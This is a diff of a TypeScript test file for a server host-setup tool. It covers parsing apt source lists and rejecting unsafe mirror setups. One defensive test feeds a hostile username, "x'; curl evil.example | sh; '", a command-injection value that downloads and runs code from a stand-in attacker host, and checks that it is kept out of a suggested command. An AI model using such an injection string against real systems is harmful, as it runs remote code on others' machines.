@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { commandLines } from '../../../src/cli/render/host-setup.js'
 import { Cul8erError } from '../../../src/errors.js'
+import { readOsRelease } from '../../../src/host-setup/os-release.js'
 import { setupPlan } from '../../../src/host-setup/plan.js'
 import type { MachineFacts, SetupWishes } from '../../../src/host-setup/facts.js'
 import { ARCH, BOOKWORM, incus, machine, NOBLE, TRIXIE, wishes } from './world.js'
@@ -63,13 +64,27 @@ describe('a fresh machine', () => {
     ['a one-line list', 'deb [signed-by=/k.gpg] http://m/debian bookworm main\n', 'http://m/debian', '/k.gpg'],
     [
       'a list in paragraphs',
-      'Types: deb\nURIs: http://s/security\nSuites: bookworm-security\n\nTypes: deb\nURIs: http://m/debian\nSuites: bookworm bookworm-updates\nSigned-By: /d.gpg\n',
+      'Types: deb\nURIs: http://s/security\nSuites: bookworm-security\n\nTypes: deb\nURIs: http://m/debian\nSuites: bookworm bookworm-updates\nComponents: main\nSigned-By: /d.gpg\n',
       'http://m/debian',
       '/d.gpg',
     ],
     [
       'a list without a key',
       '# deb http://old/debian bookworm main\ndeb http://m/debian bookworm main\n',
+      'http://m/debian',
+      '/usr/share/keyrings/debian-archive-keyring.gpg',
+    ],
+    [
+      'a list of a provider',
+      'deb https://mirror.hetzner.com/debian/packages bookworm main\n',
+      'https://mirror.hetzner.com/debian/packages',
+      '/usr/share/keyrings/debian-archive-keyring.gpg',
+    ],
+    [
+      "Debian's own of several vendors' that have a suite of that name",
+      'deb [signed-by=/etc/apt/keyrings/zabbix.gpg] https://repo.zabbix.com/zabbix/7.0/debian bookworm main\n' +
+        'deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] http://m/debian bookworm main\n\n' +
+        'Types: deb\nURIs: https://download.docker.com/linux/debian\nSuites: bookworm\nComponents: stable\nSigned-By: /etc/apt/keyrings/docker.asc\n',
       'http://m/debian',
       '/usr/share/keyrings/debian-archive-keyring.gpg',
     ],
@@ -171,8 +186,54 @@ it.each([
     'that of host h2 (10.85.0.1/16)',
   ],
   ['no mirror', { sources: ['deb http://m/debian sid main'] }, {}, 'NOT_FOUND', 'no package source'],
+  [
+    'no mirror but those of vendors',
+    {
+      sources: [
+        'deb [signed-by=/docker.asc] https://download.docker.com/linux/debian bookworm stable',
+        'deb [signed-by=/hashicorp.gpg] https://apt.releases.hashicorp.com bookworm main',
+      ],
+    },
+    {},
+    'NOT_FOUND',
+    'no package source',
+  ],
+  [
+    'two mirrors with keys of which nobody knows whose they are',
+    {
+      sources: ['deb [signed-by=/a] http://a/debian bookworm main', 'deb [signed-by=/b] http://b/debian bookworm main'],
+    },
+    {},
+    'NOT_FOUND',
+    'no package source',
+  ],
+  [
+    'a mirror with a password, which others on the host are not to read',
+    { sources: ['deb http://me:secret@m/debian bookworm main'] },
+    {},
+    'NOT_FOUND',
+    'no package source',
+  ],
 ])('stops at %s', (_, facts, more, code, message) => {
   const plan = (): unknown => setupPlan(machine(BOOKWORM, facts), wishes(more))
   expect(plan).toThrow(Cul8erError)
   expect(plan).toThrow(expect.objectContaining({ code, message: expect.stringContaining(message) as string }) as Error)
+})
+
+it('gives no command to paste with what a host says that its login is called', () => {
+  const hintFor = (user: string): string | undefined => {
+    try {
+      setupPlan(machine(BOOKWORM, { user, root: null }), wishes())
+    } catch (error) {
+      return (error as Cul8erError).hint
+    }
+  }
+  expect(hintFor('anna')).toContain("echo 'anna ALL=(ALL) NOPASSWD: ALL'")
+  expect(hintFor("x'; curl evil.example | sh; '")).not.toMatch(/curl|echo/)
+})
+
+it('reads an /etc/os-release of any size at once', () => {
+  const began = performance.now()
+  expect(readOsRelease(`ID=debian\nNAME=${' '.repeat(500_000)}x\n`).id).toBe('debian')
+  expect(performance.now() - began).toBeLessThan(500)
 })
